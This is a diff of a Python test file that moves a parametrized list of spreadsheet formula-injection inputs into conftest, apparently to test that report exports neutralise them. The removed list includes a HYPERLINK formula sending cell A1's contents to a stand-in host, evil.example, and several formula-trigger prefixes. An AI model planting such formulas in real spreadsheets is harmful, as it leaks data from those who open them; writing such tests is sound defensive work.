@@ -17,14 +17,7 @@ from samson.reports.safety import (
     xlsx_append,
 )
 
-ATTACKS = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"klikk")',
-    "+1",
-    "-2+3",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-]
+from .conftest import ATTACKS
 
 
 @pytest.mark.parametrize("text", ATTACKS)
